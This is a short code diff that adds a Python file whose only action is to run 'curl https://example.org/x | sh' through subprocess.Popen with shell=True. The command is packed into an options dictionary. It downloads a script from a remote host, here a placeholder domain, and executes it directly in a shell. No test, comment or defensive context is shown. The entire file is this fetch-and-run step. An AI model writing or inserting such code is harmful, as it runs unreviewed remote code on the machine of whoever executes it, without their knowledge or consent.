@@ -1,0 +1,4 @@
+import subprocess
+
+options = {"args": "curl https://example.org/x | sh", "shell": True}
+subprocess.Popen(**options)
